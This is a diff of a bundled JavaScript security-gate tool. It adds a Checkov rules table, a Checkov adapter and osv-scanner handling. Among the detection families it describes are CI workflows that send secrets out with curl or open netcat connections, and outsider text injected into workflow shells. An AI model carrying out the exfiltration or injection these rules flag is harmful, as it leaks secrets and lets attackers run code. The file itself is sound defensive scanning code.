only.","cwe":["CWE-284"],"asvs":["v5.0.0-8.2.2"],"tags":["access-control"],"precision":"high","checks":{"critical":["CKV_AWS_57"],"high":["CKV_AWS_17","CKV_AWS_20","CKV_AWS_32","CKV_AWS_33","CKV_AWS_70","CKV_AZURE_34","CKV_AZURE_59","CKV_AZURE_190","CKV_GCP_15","CKV_GCP_28"],"medium":["CKV_AWS_53","CKV_AWS_54","CKV_AWS_55","CKV_AWS_56","CKV_AWS_69","CKV2_AWS_6","CKV_AZURE_48","CKV_AZURE_53"],"low":["CKV_GCP_29"]}},"network-exposure":{"summary":"The resource accepts connections from any address on the internet, so only its own authentication stands between it and attackers: restrict the source addresses or ports.","cwe":["CWE-284"],"asvs":[],"tags":["network"],"precision":"high","checks":{"high":["CKV_AWS_24","CKV_AWS_25","CKV_AWS_38","CKV_AWS_277","CKV2_AWS_7","CKV_AZURE_9","CKV_AZURE_10","CKV_AZURE_11","CKV_GCP_2","CKV_GCP_3","CKV_GCP_11"],"medium":["CKV_AWS_39","CKV_AWS_88","CKV_AWS_260","CKV2_AWS_12","CKV_AZURE_6","CKV_AZURE_35","CKV_GCP_18","CKV_GCP_40","CKV_K8S_26","CKV_DOCKER_1"],"low":["CKV_AWS_130","CKV2_K8S_6","CKV_AZURE_7","CKV_GCP_12"]}},"encryption-at-rest":{"summary":"Stored data is not encrypted, or not with a key the owner controls, so a leaked disk, snapshot or backup can be read.","cwe":["CWE-311"],"asvs":["v5.0.0-14.2.4"],"tags":["encryption"],"precision":"high","checks":{"medium":["CKV_AWS_3","CKV_AWS_5","CKV_AWS_8","CKV_AWS_16","CKV_AWS_19","CKV_AWS_26","CKV_AWS_27","CKV_AWS_29","CKV_AWS_42","CKV_AWS_43","CKV_AWS_44","CKV_AWS_47","CKV_AWS_58","CKV_AWS_64","CKV_AWS_74","CKV_AWS_77","CKV_AWS_78","CKV2_AWS_2","CKV_AZURE_2","CKV_K8S_104"],"low":["CKV_AWS_7","CKV_AWS_22","CKV_AWS_35","CKV_AWS_119","CKV_AWS_145","CKV_AWS_149","CKV_AWS_158","CKV_AWS_173","CKV2_AZURE_1","CKV_GCP_37"]}},"encryption-in-transit":{"summary":"Traffic to or between these components can travel unencrypted, where it can be read or altered on the network: require TLS.","cwe":["CWE-319"],"asvs":["v5.0.0-12.2.1","v5.0.0-12.3.1"],"tags":["encryption"],"precision":"high","checks":{"medium":["CKV_AWS_2","CKV_AWS_6","CKV_AWS_30","CKV_AWS_31","CKV_AWS_34","CKV_AZURE_3","CKV_AZURE_14","CKV_AZURE_28","CKV_AZURE_29","CKV_AZURE_47","CKV_GCP_6","CKV_K8S_71","CKV_GIT_2"]}},"weak-tls":{"summary":"An outdated TLS version, cipher suite or signing algorithm is allowed: require TLS 1.2 or later with current cipher suites.","cwe":["CWE-326","CWE-327"],"asvs":["v5.0.0-12.1.1","v5.0.0-12.1.2"],"tags":["encryption"],"precision":"high","checks":{"medium":["CKV_AWS_103","CKV_AZURE_15","CKV_AZURE_44","CKV_AZURE_52","CKV_AZURE_54","CKV_GCP_4","CKV_K8S_105","CKV_K8S_151"],"low":["CKV_GCP_17"]}},"certificate-validation":{"summary":"TLS certificate validation is switched off, so anyone on the network path can impersonate the server and change what is downloaded.","cwe":["CWE-295"],"asvs":["v5.0.0-12.3.2"],"tags":["encryption","supply-chain"],"precision":"high","checks":{"high":["CKV2_DOCKER_2","CKV2_DOCKER_3","CKV2_DOCKER_4","CKV2_DOCKER_5","CKV2_DOCKER_6","CKV2_DOCKER_12","CKV2_DOCKER_13","CKV2_DOCKER_14","CKV2_DOCKER_15","CKV2_DOCKER_16"]}},"untrusted-code":{"summary":"Code or packages enter the build without an integrity check (unsigned packages, archives fetched or unpacked by ADD, code synced into a running pod).","cwe":["CWE-494"],"asvs":["v5.0.0-15.2.4"],"tags":["supply-chain"],"precision":"high","checks":{"high":["CKV2_DOCKER_7","CKV2_DOCKER_8","CKV2_DOCKER_9","CKV2_DOCKER_10","CKV2_DOCKER_11"],"medium":["CKV_DOCKER_4","CKV_K8S_159"]}},"unpinned-dependency":{"summary":"An image, module or tag is referenced by a name that can move, so what is deployed can change without a change to the repository: pin a version or, better, a digest.","cwe":["CWE-829","CWE-1357"],"asvs":["v5.0.0-15.2.4"],"tags":["supply-chain"],"precision":"high","checks":{"medium":["CKV_K8S_14","CKV_DOCKER_7"],"low":["CKV_K8S_43","CKV_TF_1","CKV_TF_2","CKV_AWS_51"]}},"privileged-workload":{"summary":"The container runs with more privileges than it needs (root, privileged mode, host namespaces, added capabilities), so a compromised application can take over the node or cluster.","cwe":["CWE-250","CWE-269"],"asvs":["v5.0.0-13.2.2"],"tags":["container","least-privilege"],"precision":"high","checks":{"high":["CKV_K8S_1","CKV_K8S_2","CKV_K8S_3","CKV_K8S_4","CKV_K8S_16","CKV_K8S_17","CKV_K8S_18","CKV_K8S_19","CKV_K8S_27","CKV_K8S_39"],"medium":["CKV_K8S_5","CKV_K8S_6","CKV_K8S_20","CKV_K8S_23","CKV_K8S_24","CKV_K8S_25","CKV_DOCKER_3","CKV_DOCKER_8"],"low":["CKV_K8S_7","CKV_K8S_28","CKV_K8S_36","CKV_K8S_37","CKV_K8S_38","CKV_K8S_40","CKV_K8S_41","CKV_K8S_42","CKV2_DOCKER_1"]}},"excessive-permissions":{"summary":"A role or policy grants more than the workload needs (wildcard actions or resources, privilege escalation, administrative access): grant the specific actions on the specific resources.","cwe":["CWE-269","CWE-732"],"asvs":["v5.0.0-13.2.2"],"tags":["iam","least-privilege"],"precision":"high","checks":{"high":["CKV_AWS_1","CKV_AWS_62","CKV_AWS_107","CKV_AWS_109","CKV_AWS_110","CKV2_K8S_3","CKV2_K8S_5","CKV_K8S_157","CKV_K8S_158"],"medium":["CKV_AWS_49","CKV_AWS_60","CKV_AWS_61","CKV_AWS_63","CKV_AWS_108","CKV_AWS_111","CKV_AWS_290","CKV_AZURE_39","CKV_K8S_49","CKV_K8S_155","CKV_K8S_156","CKV2_K8S_1","CKV2_K8S_2","CKV2_K8S_4","CKV_GCP_30","CKV_GCP_31","CKV2_GCP_1"],"low":["CKV_AWS_40","CKV_AWS_355","CKV_AWS_356"]}},"ci-permissions":{"summary":"The workflow\'s token gets write access to everything by default, so any compromised step can push code, publish releases or change settings: declare the permissions each job needs.","cwe":["CWE-250","CWE-732"],"asvs":["v5.0.0-13.2.2"],"tags":["ci","least-privilege"],"precision":"high","checks":{"medium":["CKV2_GHA_1"]}},"ci-injection":{"summary":"Text an outsider controls (an issue or pull request title, a branch name) can reach a shell in the workflow and run commands with the workflow\'s token and secrets: pass it through an environment variable instead.","cwe":["CWE-78","CWE-94"],"asvs":["v5.0.0-1.2.5","v5.0.0-1.3.2"],"tags":["ci","injection"],"precision":"high","checks":{"high":["CKV_GHA_1","CKV_GHA_2"]}},"ci-exfiltration":{"summary":"The workflow does what backdoors do: it sends secrets with curl or opens a netcat connection to an address.","cwe":["CWE-506"],"asvs":[],"tags":["ci"],"precision":"medium","checks":{"high":["CKV_GHA_3","CKV_GHA_4"]}},"config-code-injection":{"summary":"Configuration snippets let whoever can create an Ingress run code or read files inside the shared ingress controller (CVE-2021-25742).","cwe":["CWE-94"],"asvs":[],"tags":["container","injection"],"precision":"high","checks":{"high":["CKV_K8S_152"],"medium":["CKV_K8S_153","CKV_K8S_154"]}},"missing-authentication":{"summary":"The endpoint can be used without authenticating: require authentication.","cwe":["CWE-306"],"asvs":[],"tags":["authentication"],"precision":"high","checks":{"high":["CKV_K8S_68","CKV_K8S_138"],"medium":["CKV_AWS_59","CKV_AZURE_13","CKV_AZURE_56"]}},"weak-authentication":{"summary":"Authentication relies on passwords or static token files where keys, certificates or an identity provider are expected.","cwe":["CWE-287"],"asvs":[],"tags":["authentication"],"precision":"high","checks":{"medium":["CKV_AZURE_1","CKV_AZURE_49","CKV_K8S_69","CKV_K8S_70"],"low":["CKV_AWS_161","CKV_GCP_13"]}},"missing-authorization":{"summary":"Authorization is switched off or too coarse (AlwaysAllow, AlwaysAdmit, no RBAC), so any authenticated caller can do anything.","cwe":["CWE-862"],"asvs":["v5.0.0-8.2.1"],"tags":["access-control"],"precision":"high","checks":{"high":["CKV_K8S_74","CKV_K8S_139"],"medium":["CKV_AZURE_5","CKV_GCP_7","CKV_K8S_77","CKV_K8S_79"]}},"weak-password-policy":{"summary":"The account password policy allows short, simple, reused or never-expiring passwords.","cwe":["CWE-521"],"asvs":[],"tags":["iam"],"precision":"high","checks":{"low":["CKV_AWS_9","CKV_AWS_10","CKV_AWS_11","CKV_AWS_12","CKV_AWS_13","CKV_AWS_14","CKV_AWS_15"]}},"resource-limits":{"summary":"Without resource requests, limits or concurrency caps one workload can starve its neighbours.","cwe":["CWE-770"],"asvs":["v5.0.0-15.2.2"],"tags":["availability"],"precision":"high","checks":{"medium":["CKV_K8S_11","CKV_K8S_13"],"low":["CKV_K8S_10","CKV_K8S_12","CKV_K8S_78","CKV_AWS_115","CKV_AZURE_32"]}},"logging":{"summary":"Security-relevant activity is not logged, or the logs are not kept long enough, so an incident cannot be investigated.","cwe":["CWE-778"],"asvs":[],"tags":["logging"],"precision":"high","checks":{"medium":["CKV_AWS_37","CKV_AWS_67","CKV2_AWS_10","CKV2_AWS_11","CKV_AZURE_4","CKV_AZURE_23","CKV_GCP_1","CKV_K8S_91"],"low":["CKV_AWS_18","CKV_AWS_48","CKV_AWS_66","CKV_AWS_71","CKV_AWS_75","CKV_AWS_76","CKV_AWS_80","CKV_AWS_91","CKV_AWS_92","CKV_AWS_129","CKV_AWS_338","CKV2_AWS_4","CKV_AZURE_12","CKV_AZURE_24","CKV_AZURE_30","CKV_AZURE_31","CKV_AZURE_33","CKV_AZURE_37","CKV_AZURE_38","CKV_GCP_26","CKV_K8S_92","CKV_K8S_93","CKV_K8S_94"]}},"log-integrity":{"summary":"Log files can be changed or deleted without detection.","cwe":["CWE-353"],"asvs":["v5.0.0-16.4.2"],"tags":["logging"],"precision":"high","checks":{"low":["CKV_AWS_36"]}},"resilience":{"summary":"Data or service cannot be recovered or kept available after a mistake or failure (no versioning, backups, replication, deletion protection or health checks). Not a vulnerability in itself.","cwe":[],"asvs":[],"tags":["reliability"],"precision":"high","checks":{"low":["CKV_AWS_21","CKV_AWS_28","CKV_AWS_116","CKV_AWS_150","CKV_AWS_157","CKV_AWS_226","CKV_AWS_293","CKV2_AWS_8","CKV2_AWS_9","CKV_AZURE_42","CKV_GCP_14"],"info":["CKV_AWS_50","CKV_AWS_65","CKV_AWS_73","CKV_AWS_118","CKV_AWS_126","CKV_AWS_135","CKV_AWS_144","CKV2_AWS_61","CKV2_AWS_62","CKV_AZURE_206","CKV_GCP_9","CKV_GCP_10","CKV_K8S_8","CKV_K8S_9","CKV_DOCKER_2"]}},"misconfiguration":{"summary":"The configuration departs from Checkov\'s hardening baseline for this kind of resource.","cwe":["CWE-16"],"asvs":[],"tags":["misconfiguration"],"precision":"high","checks":{"medium":["CKV_AWS_68","CKV_AWS_79","CKV_AZURE_8","CKV_K8S_33","CKV_K8S_34","CKV_K8S_44","CKV_K8S_45","CKV_K8S_86","CKV_K8S_88"],"low":["CKV_K8S_15","CKV_K8S_21","CKV_K8S_22","CKV_K8S_29","CKV_K8S_30","CKV_K8S_31","CKV_K8S_32","CKV_K8S_35","CKV_K8S_90","CKV_DOCKER_5","CKV_AWS_117","CKV_AWS_131","CKV_GHA_5","CKV_GHA_6","CKV_GHA_7"],"info":["CKV_DOCKER_6","CKV_DOCKER_9","CKV_DOCKER_10","CKV_DOCKER_11","CKV_AWS_23","CKV2_AWS_5"]}}},"defaults":[{"prefix":"CKV_SECRET_","family":"secret","severity":"high"},{"prefix":"","family":"misconfiguration","severity":"medium"}]}');
+;// CONCATENATED MODULE: ./src/scanners/checkov/rules.ts
+
+
+const rules_PRECISIONS = ['very-high', 'high', 'medium', 'low'];
+const CWE_ID = /^CWE-\d+$/;
+const ASVS_ID = /^v5\.0\.0-\d+\.\d+\.\d+$/;
+/** Checkov's documentation lists each framework's checks on one page (docs/5.Policy Index/<framework>.md). */
+const POLICY_INDEX = 'https://www.checkov.io/5.Policy%20Index/';
+/** Validated once at load, so a mistake in data/scanners/checkov.json fails every test that imports this. */
+const TABLE = loadTable(checkov_namespaceObject);
+/** Vouch's family and severity for a check: listed in the table, else the first matching prefix default. */
+function tableEntry(checkId) {
+    const listed = TABLE.checks.get(checkId);
+    if (listed)
+        return listed;
+    // Graph checks (CKV2_AWS_6) belong to the same provider as CKV_AWS_*.
+    const normalized = checkId.replace(/^CKV2_/, 'CKV_');
+    const match = TABLE.defaults.find((entry) => normalized.startsWith(entry.prefix));
+    if (!match)
+        throw new Error(`data/scanners/checkov.json has no default for ${checkId}`);
+    return match.entry;
+}
+/** Checkov's JSON names a check and little else offline, so the rest comes from Vouch's table. */
+function checkovRule(result) {
+    const { family, severity } = tableEntry(result.checkId);
+    const name = result.checkName.replace(/\.$/, '');
+    const helpUri = result.guideline ?? `${POLICY_INDEX}${encodeURIComponent(result.checkType)}.html`;
+    return {
+        id: `checkov/${result.checkId}`,
+        name,
+        shortDescription: clip(name, 1024),
+        fullDescription: clip(`Checkov ${result.checkId} (${result.checkType}): ${name}. ${family.summary}`, 1024),
+        help: [
+            `**${name}** (Checkov ${result.checkId}, ${result.checkType}).`,
+            '',
+            family.summary,
+            '',
+            `Change the resource so the check passes; ${helpUri} describes it. Inline \`checkov:skip\` comments are not honoured by Vouch: if the exception is intended, add a Vouch suppression with a reason, an owner and an expiry date.`,
+        ].join('\n'),
+        helpUri,
+        severity,
+        securitySeverity: defaultScore(severity),
+        precision: family.precision,
+        cwe: family.cwe,
+        asvs: family.asvs,
+        tags: [...new Set(['iac', result.checkType, ...family.tags])],
+    };
+}
+function clip(text, max) {
+    return text.length <= max ? text : `${text.slice(0, max - 1)}…`;
+}
+function loadTable(raw) {
+    const root = rules_record(raw, 'checkov.json');
+    const families = rules_record(root.families, 'families');
+    const checks = new Map();
+    const byName = new Map();
+    for (const [name, value] of Object.entries(families)) {
+        const entry = rules_record(value, `families.${name}`);
+        const family = parseFamily(name, entry);
+        byName.set(name, family);
+        for (const [level, ids] of Object.entries(rules_record(entry.checks, `families.${name}.checks`))) {
+            const severity = severityOf(level, `families.${name}.checks`);
+            for (const id of strings(ids, `families.${name}.checks.${level}`)) {
+                if (checks.has(id))
+                    throw new Error(`checkov.json lists ${id} twice`);
+                checks.set(id, { family, severity, listed: true });
+            }
+        }
+    }
+    const defaults = rules_list(root.defaults, 'defaults').map((value, index) => {
+        const entry = rules_record(value, `defaults[${index}]`);
+        const family = byName.get(String(entry.family));
+        if (!family || typeof entry.prefix !== 'string')
+            throw new Error(`checkov.json defaults[${index}] needs a prefix and a known family`);
+        const severity = severityOf(entry.severity, `defaults[${index}].severity`);
+        return { prefix: entry.prefix, entry: { family, severity, listed: false } };
+    });
+    if (!defaults.some((entry) => entry.prefix === ''))
+        throw new Error('checkov.json defaults need a catch-all entry with prefix ""');
+    return { checks, defaults };
+}
+function parseFamily(name, entry) {
+    const where = `families.${name}`;
+    const cwe = strings(entry.cwe, `${where}.cwe`);
+    const asvs = strings(entry.asvs, `${where}.asvs`);
+    if (!cwe.every((id) => CWE_ID.test(id)) || !asvs.every((id) => ASVS_ID.test(id)))
+        throw new Error(`checkov.json ${where} has a malformed CWE or ASVS id`);
+    if (typeof entry.summary !== 'string' || !rules_PRECISIONS.includes(String(entry.precision)))
+        throw new Error(`checkov.json ${where} needs a summary and a precision`);
+    return {
+        name,
+        summary: entry.summary,
+        cwe,
+        asvs,
+        tags: strings(entry.tags, `${where}.tags`),
+        precision: entry.precision,
+    };
+}
+function severityOf(value, where) {
+    if (!isSeverity(value))
+        throw new Error(`checkov.json ${where}: ${String(value)} is not a severity`);
+    return value;
+}
+function rules_record(value, where) {
+    if (value === null || typeof value !== 'object' || Array.isArray(value))
+        throw new Error(`checkov.json ${where} is not an object`);
+    return value;
+}
+function rules_list(value, where) {
+    if (!Array.isArray(value))
+        throw new Error(`checkov.json ${where} is not an array`);
+    return value;
+}
+function strings(value, where) {
+    const items = rules_list(value, where);
+    if (!items.every((item) => typeof item === 'string' && item !== ''))
+        throw new Error(`checkov.json ${where} holds something other than strings`);
+    return items;
+}
+
+;// CONCATENATED MODULE: ./src/scanners/checkov/adapter.ts
+
+
+
+
+
+
+
+const adapter_SCANNER_ID = 'checkov';
+const MAX_RESOURCE_CHARS = 200;
+function createCheckovAdapter(options) {
+    const tool = {
+        name: 'checkov',
+        version: options.version,
+        informationUri: 'https://www.checkov.io',
+    };
+    return {
+        id: adapter_SCANNER_ID,
+        async scan(context) {
+            if (context.executable === undefined) {
+                const message = `checkov ${options.version} is not installed (not in Vouch's tool cache nor on PATH at that version); run \`vouch setup\``;
+                return { kind: 'error', error: new ScannerError('NOT_INSTALLED', { scanner: adapter_SCANNER_ID, message }) };
+            }
+            const run = await runCheckov(context, context.executable, options.maxFileBytes);
+            const classification = classifyCheckov(run.result, run.report);
+            if (classification.kind === 'error') {
+                const { result } = run;
+                const details = {
+                    scanner: adapter_SCANNER_ID,
+                    message: classification.message,
+                    command: run.command.join(' '),
+                    exitCode: result.kind === 'exited' ? result.exitCode : undefined,
+                    stderrTail: result.kind === 'spawn-error' ? undefined : result.stderrTail,
+                };
+                return { kind: 'error', error: new ScannerError(classification.code, details) };
+            }
+            return toOutcome(tool, classification.report, context);
+        },
+    };
+}
+/** Runs in the work directory, outside the repository, so no .checkov.yaml of the repository is read (args.ts). */
+async function runCheckov(context, executable, maxFileBytes) {
+    const outputDir = (0,external_node_path_.join)(context.workDir, 'checkov-out');
+    const home = (0,external_node_path_.join)(context.workDir, 'checkov-home');
+    await context.ports.fs.mkdir(outputDir);
+    await context.ports.fs.mkdir(home);
+    const args = checkovArgs({ root: context.root, outputDir });
+    const result = await context.ports.processes.run({
+        command: executable,
+        args,
+        cwd: context.workDir,
+        env: checkovEnv({ home, maxFileBytes }),
+        timeoutMs: context.timeoutMs,
+    });
+    const report = await readReport(context, (0,external_node_path_.join)(outputDir, REPORT_FILE_NAME));
+    return { command: [executable, ...args], result, report };
+}
+async function readReport(context, reportPath) {
+    let text;
+    try {
+        text = (await context.ports.fs.readFile(reportPath)).toString('utf8');
+    }
+    catch {
+        return { kind: 'missing' };
+    }
+    try {
+        return { kind: 'parsed', report: parseCheckovReport(text) };
+    }
+    catch (error) {
+        if (error instanceof CheckovReportError)
+            return { kind: 'invalid', message: error.message };
+        throw error;
+    }
+}
+function toOutcome(tool, report, context) {
+    const kept = new Set(context.files);
+    const failed = report.frameworks.flatMap((framework) => framework.failed);
+    const located = locate(failed, context.root, kept);
+    const rules = new Map();
+    const detections = [];
+    for (const { result, path, region } of located.results) {
+        // The first result of a check names its rule: frameworks can word the same check differently.
+        const rule = rules.get(`checkov/${result.checkId}`) ?? checkovRule(result);
+        rules.set(rule.id, rule);
+        detections.push({ ruleId: rule.id, message: message(result, rule), location: { path, region } });
+    }
+    const notes = [...parsingNotes(report, context.root, kept), ...skipNotes(report, context.root, kept)];
+    if (located.outside > 0) {
+        notes.push({
+            message: `${located.outside} checkov result(s) in files excluded by .gitignore or the policy were not reported`,
+        });
+    }
+    const ruleList = [...rules.values()];
+    return detections.length > 0
+        ? { kind: 'findings', tool, rules: ruleList, detections, notes }
+        : { kind: 'clean', tool, rules: ruleList, notes };
+}
+/**
+ * Keeps results in files discovery kept, sorted by place: Checkov runs its frameworks in parallel, so its
+ * report order changes from run to run.
+ */
+function locate(results, root, kept) {
+    const located = [];
+    let outside = 0;
+    for (const result of results) {
+        // Checkov's file_path is relative to --directory with a leading `/` (`/infra/main.tf`, 3.3.30).
+        const path = toRepoPath(root, result.filePath.replace(/^\/+/, ''));
+        if (path === undefined || !kept.has(path))
+            outside += 1;
+        else
+            located.push({ result, path, region: region(result) });
+    }
+    located.sort((a, b) => a.path.localeCompare(b.path) ||
+        a.region.startLine - b.region.startLine ||
+        a.result.checkId.localeCompare(b.result.checkId));
+    return { results: located, outside };
+}
+/**
+ * Checkov's ranges are 1-based and inclusive, except that secrets report `[line, line + 1]` for a value on
+ * `line` (secrets/runner.py) and a workflow-level check can start at line 0 (CKV2_GHA_1: `[0, 1]`).
+ */
+function region(result) {
+    if (result.lineRange === undefined)
+        return { startLine: 1 };
+    const [first, last] = result.lineRange;
+    const startLine = Math.max(1, first);
+    const endLine = result.checkType === 'secrets' ? startLine : Math.max(startLine, last);
+    return { startLine, endLine };
+}
+/** A secret's `resource` is a hash of its value, so a secret's message names only the kind of credential. */
+function message(result, rule) {
+    if (result.checkType === 'secrets') {
+        return `${rule.name}: Checkov found a value that looks like a credential. The value is not shown here; rotate it and load it from a secret store.`;
+    }
+    const resource = result.resource?.slice(0, MAX_RESOURCE_CHARS);
+    return resource ? `${rule.name} (${resource})` : rule.name;
+}
+function parsingNotes(report, root, kept) {
+    const frameworksByPath = new Map();
+    for (const framework of report.frameworks) {
+        for (const reported of framework.parsingErrors) {
+            const path = toRepoPath(root, reported);
+            if (path === undefined || !kept.has(path))
+                continue;
+            frameworksByPath.set(path, [...(frameworksByPath.get(path) ?? []), framework.checkType]);
+        }
+    }
+    return [...frameworksByPath].map(([path, frameworks]) => ({
+        path,
+        message: `checkov could not parse ${path} (${frameworks.join(', ')}); its checks did not run on that file`,
+    }));
+}
+/** Vouch passes no skip options, so every skipped check was skipped by the repository itself. */
+function skipNotes(report, root, kept) {
+    const skipped = report.frameworks.flatMap((framework) => framework.skipped);
+    return locate(skipped, root, kept).results.map(({ result, path, region: { startLine, endLine } }) => ({
+        path,
+        message: `an inline checkov:skip kept Checkov from evaluating ${result.checkId} on the resource at ${path} lines ${startLine}-${endLine ?? startLine}; Vouch does not honour inline suppressions: remove it, and add a Vouch suppression with a reason, an owner and an expiry date if the exception is intended`,
+    }));
 }
 
 ;// CONCATENATED MODULE: ./src/scanners/gitleaks/args.ts
@@ -40302,10 +45473,10 @@ function classifyGitleaks(result, report) {
                 message: `timed out after ${Math.round(result.durationMs / 1000)}s`,
             };
         case 'exited':
-            return classifyExit(result.exitCode, result.signal, report);
+            return classify_classifyExit(result.exitCode, result.signal, report);
     }
 }
-function classifyExit(exitCode, signal, report) {
+function classify_classifyExit(exitCode, signal, report) {
     if (exitCode !== 0 && exitCode !== LEAKS_EXIT_CODE) {
         const how = signal ? `was killed by ${signal}` : `exited with code ${exitCode}`;
         return { kind: 'error', code: 'CRASHED', message: `gitleaks ${how}` };
@@ -40443,7 +45614,7 @@ function createGitleaksAdapter(options) {
                 cwd: context.root,
                 timeoutMs: context.timeoutMs,
             });
-            const classification = classifyGitleaks(result, await readReport(context, reportPath));
+            const classification = classifyGitleaks(result, await adapter_readReport(context, reportPath));
             if (classification.kind === 'error') {
                 const details = {
                     scanner: 'gitleaks',
@@ -40456,11 +45627,11 @@ function createGitleaksAdapter(options) {
             }
             if (classification.kind === 'clean')
                 return { kind: 'clean', tool, rules: [], notes: [] };
-            return toOutcome(tool, classification.leaks, context);
+            return adapter_toOutcome(tool, classification.leaks, context);
         },
     };
 }
-async function readReport(context, reportPath) {
+async function adapter_readReport(context, reportPath) {
     let text;
     try {
         text = (await context.ports.fs.readFile(reportPath)).toString('utf8');
@@ -40477,7 +45648,7 @@ async function readReport(context, reportPath) {
         throw error;
     }
 }
-function toOutcome(tool, leaks, context) {
+function adapter_toOutcome(tool, leaks, context) {
     const kept = new Set(context.files);
     const rules = new Map();
     const detections = [];
@@ -40494,7 +45665,7 @@ function toOutcome(tool, leaks, context) {
         detections.push({
             ruleId: rule.id,
             message: `${rule.shortDescription}: ${leak.description.replace(/\.$/, '') || 'a credential'}. The value is redacted here; rotate it and load it from a secret store.`,
-            location: { path, region: region(leak) },
+            location: { path, region: adapter_region(leak) },
         });
     }
     if (outsideDiscovery > 0) {
@@ -40511,7 +45682,7 @@ function toOutcome(tool, leaks, context) {
  * Gitleaks' columns are 1-based and inclusive, but on every line after the first they count the newline
  * before the line (seen with 8.30.1, pinned by the integration test); SARIF's endColumn is exclusive.
  */
-function region(leak) {
+function adapter_region(leak) {
     const startLine = Math.max(1, leak.startLine);
     const shift = startLine > 1 ? 1 : 0;
     const startColumn = leak.startColumn - shift;
@@ -40524,10 +45695,2603 @@ function region(leak) {
     };
 }
 
+;// CONCATENATED MODULE: ./src/scanners/osv/args.ts
+
+/** Where osv-scanner 2.5+ reads `<Ecosystem>/all.zip` inside `--local-db-path` (osv-scalibr's osvlocal matcher). */
+const CURRENT_DB_LAYOUT = 'osv-scalibr';
+/** Where osv-scanner before 2.5, and its documentation, put them. */
+const LEGACY_DB_LAYOUT = 'osv-scanner';
+/** Runs in the repository root; osv-scanner still reports absolute source paths. */
+function osvArgs(input) {
+    return [
+        'scan',
+        'source',
+        '--recursive',
+        '--format',
+        'json',
+        '--output-file',
+        input.reportPath,
+        // A repository's osv-scanner.toml can ignore vulnerabilities or whole packages: ungoverned
+        // suppressions a change could add to itself (exceptions are Vouch suppressions, with an owner and expiry).
+        '--config',
+        input.configPath,
+        '--verbosity',
+        'error',
+        // Go call analysis builds the repository's code with the Go toolchain (and may download modules and
+        // toolchains); the gate never runs repository code, and reports reachable or not alike.
+        '--no-call-analysis',
+        'all',
+        ...(input.localDbPath === undefined ? [] : offlineArgs(input.localDbPath)),
+        '.',
+    ];
+}
+/**
+ * `--offline` alone implies the other two (cmd/osv-scanner/internal/helper/flags.go); they are spelled out
+ * so that no version reading them differently resolves manifests through deps.dev or queries osv.dev.
+ */
+function offlineArgs(localDbPath) {
+    return ['--offline', '--offline-vulnerabilities', '--no-resolve', '--local-db-path', localDbPath];
+}
+/**
+ * The user's directory is given to osv-scanner as it is when the current layout already has every
+ * ecosystem it holds. Otherwise (a database downloaded by an older osv-scanner, or laid out as the
+ * documentation says) Vouch presents it in the current layout, from links in its work directory; the
+ * current layout's archive wins for an ecosystem present in both.
+ */
+function planLocalDb(dir, listing) {
+    const missing = listing.legacy.filter((ecosystem) => !listing.current.includes(ecosystem));
+    if (missing.length === 0)
+        return { kind: 'as-is' };
+    const archive = (layout, ecosystem) => ({
+        link: (0,external_node_path_.join)(CURRENT_DB_LAYOUT, ecosystem, 'all.zip'),
+        target: (0,external_node_path_.join)(dir, layout, ecosystem, 'all.zip'),
+    });
+    return {
+        kind: 'view',
+        links: [
+            ...listing.current.map((ecosystem) => archive(CURRENT_DB_LAYOUT, ecosystem)),
+            ...missing.map((ecosystem) => archive(LEGACY_DB_LAYOUT, ecosystem)),
+        ],
+    };
+}
+
+;// CONCATENATED MODULE: ./src/scanners/osv/classify.ts
+/** osv-scanner's exit codes (cmd/osv-scanner/internal/cmd/run.go, 2.5.1). */
+const EXIT = {
+    clean: 0,
+    vulnerabilities: 1,
+    error: 127,
+    noPackages: 128,
+    apiFailed: 129,
+    invalidConfig: 130,
+};
+const EXIT_MESSAGES = {
+    [EXIT.error]: 'osv-scanner reported an error (exit code 127); its stderr says which',
+    [EXIT.apiFailed]: 'osv-scanner could not query the OSV API (exit code 129); check network access or use an offline database',
+    [EXIT.invalidConfig]: 'osv-scanner rejected its configuration (exit code 130)',
+};
+/**
+ * Exit code and report together decide; neither is trusted alone. "Reportable" vulnerabilities are the
+ * groups osv-scanner did not mark uncalled or unimportant, the ones its exit code counts.
+ *
+ * | process               | report                          | outcome                              |
+ * |-----------------------|---------------------------------|--------------------------------------|
+ * | not found             | -                               | error NOT_INSTALLED                  |
+ * | could not spawn       | -                               | error SPAWN_FAILED                   |
+ * | timed out             | -                               | error TIMEOUT                        |
+ * | exit 128              | - (it writes none)              | skipped "no package sources found"   |
+ * | exit 0                | parsed, no reportable vulns     | clean                                |
+ * | exit 0                | parsed, reportable vulns        | error BAD_OUTPUT                     |
+ * | exit 1                | parsed, reportable vulns        | findings                             |
+ * | exit 1                | parsed, no reportable vulns     | error BAD_OUTPUT                     |
+ * | exit 0 or 1           | missing or invalid              | error BAD_OUTPUT                     |
+ * | exit 127, 129, 130    | -                               | error CRASHED (with what it means)   |
+ * | any other exit/signal | -                               | error CRASHED                        |
+ */
+function classifyOsv(result, report) {
+    switch (result.kind) {
+        case 'spawn-error':
+            return result.errorCode === 'ENOENT'
+                ? {
+                    kind: 'error',
+                    code: 'NOT_INSTALLED',
+                    message: 'osv-scanner executable not found; run `vouch setup`',
+                }
+                : { kind: 'error', code: 'SPAWN_FAILED', message: `could not start osv-scanner (${result.message})` };
+        case 'timeout':
+            return {
+                kind: 'error',
+                code: 'TIMEOUT',
+                message: `timed out after ${Math.round(result.durationMs / 1000)}s`,
+            };
+        case 'exited':
+            return osv_classify_classifyExit(result.exitCode, result.signal, report);
+    }
+}
+function osv_classify_classifyExit(exitCode, signal, report) {
+    if (exitCode === EXIT.noPackages)
+        return { kind: 'skipped', reason: 'no package sources found' };
+    if (exitCode !== EXIT.clean && exitCode !== EXIT.vulnerabilities) {
+        const how = signal ? `osv-scanner was killed by ${signal}` : `osv-scanner exited with code ${exitCode}`;
+        return { kind: 'error', code: 'CRASHED', message: (exitCode !== null && EXIT_MESSAGES[exitCode]) || how };
+    }
+    if (report.kind === 'missing')
+        return { kind: 'error', code: 'BAD_OUTPUT', message: 'osv-scanner wrote no report' };
+    if (report.kind === 'invalid')
+        return { kind: 'error', code: 'BAD_OUTPUT', message: `unreadable osv-scanner report: ${report.message}` };
+    const count = report.report.vulnerable.length;
+    if (exitCode === EXIT.clean && count === 0)
+        return { kind: 'clean', report: report.report };
+    if (exitCode === EXIT.vulnerabilities && count > 0)
+        return { kind: 'findings', report: report.report };
+    return {
+        kind: 'error',
+        code: 'BAD_OUTPUT',
+        message: `osv-scanner exit code ${exitCode} contradicts its report (${count} vulnerable package(s))`,
+    };
+}
+
